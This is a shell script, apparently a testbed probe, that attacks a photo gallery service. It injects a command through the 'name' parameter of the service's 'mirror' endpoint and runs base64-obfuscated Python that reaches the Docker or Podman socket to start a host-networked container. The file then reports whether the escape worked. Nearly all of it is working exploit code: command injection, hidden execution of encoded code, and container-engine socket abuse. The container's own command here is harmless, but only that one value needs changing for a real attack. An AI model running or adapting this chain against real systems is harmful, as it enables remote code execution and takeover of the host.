# Starts a container through the engine's socket, if the gallery's container can reach one.
base="http://$HOST_ADDRESS:8080"
ask() { curl --interface "$FROM" --silent --max-time 8 "$@"; }
mark="m$RANDOM$RANDOM"
ask -X PUT --data "$mark" "$base/photos/$mark.txt" >/dev/null
control=false
[ "$(ask --get --data-urlencode "name=$mark.txt" "$base/mirror" | rev)" = "$mark" ] && control=true
program='
import glob, http.client, json, socket
class Engine(http.client.HTTPConnection):
    def __init__(self, path): super().__init__("engine", timeout=4); self.path = path
    def connect(self): self.sock = socket.socket(socket.AF_UNIX); self.sock.settimeout(4); self.sock.connect(self.path)
def ask(path, method, url, body=None):
    engine = Engine(path); engine.request(method, url, json.dumps(body) if body else None, {"content-type": "application/json"}); answer = engine.getresponse(); return answer.status, answer.read()
for path in ["/var/run/docker.sock", "/run/docker.sock"] + glob.glob("/machine/run/user/*/podman/podman.sock") + glob.glob("/run/user/*/podman/podman.sock"):
    try:
        status, made = ask(path, "POST", "/v1.41/containers/create?name=MARK", {"Image": "localhost/gallery:1", "Cmd": ["sh", "-c", "exit 0"], "HostConfig": {"NetworkMode": "host"}})
        if status == 201:
            started, _ = ask(path, "POST", "/v1.41/containers/MARK/start")
            ask(path, "DELETE", "/v1.41/containers/MARK?force=true")
            if started in (204, 304): print("started MARK"); break
    except OSError:
        pass
'
program=${program//MARK/$mark}
encoded=$(printf '%s' "$program" | base64 -w 0)
found=$(ask --get --data-urlencode "name=$mark.txt; python3 -c 'import base64; exec(base64.b64decode(\"$encoded\"))'" "$base/mirror")
case $found in
  *"started $mark"*) outcome=reached observed='A new container was started through the socket of the engine' ;;
  *) outcome=stopped observed='No engine could be reached from the container' ;;
esac
printf '{"outcome":"%s","control":%s,"observed":"%s"}\n' "$outcome" "$control" "$observed" >&3
